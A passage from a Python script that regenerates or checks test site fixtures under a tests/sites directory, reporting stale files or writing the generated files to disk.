        if html.unescape(SEED_BODY) != body:
            print("seed body differs from", args.seed, file=sys.stderr)
            return 1

    if args.check:
        current = existing_files(HERE)
        if current != files:
            changed = sorted(
                set(current) ^ set(files) | {k for k in files if current.get(k) != files[k]}
            )
            print(
                "tests/sites is out of date; run tests/sites/make_ofweek.py. Differs:",
                *changed[:20],
                sep="\n  ",
            )
            return 1
        print(f"tests/sites is up to date ({len(files)} files, {total / 1024:.0f} KiB)")
        return 0

    for host in GENERATED_HOSTS:
        shutil.rmtree(HERE / host, ignore_errors=True)
    for rel, data in sorted(files.items()):
        path = HERE / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    print(f"wrote {len(files)} files ({total / 1024:.0f} KiB) under {HERE}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
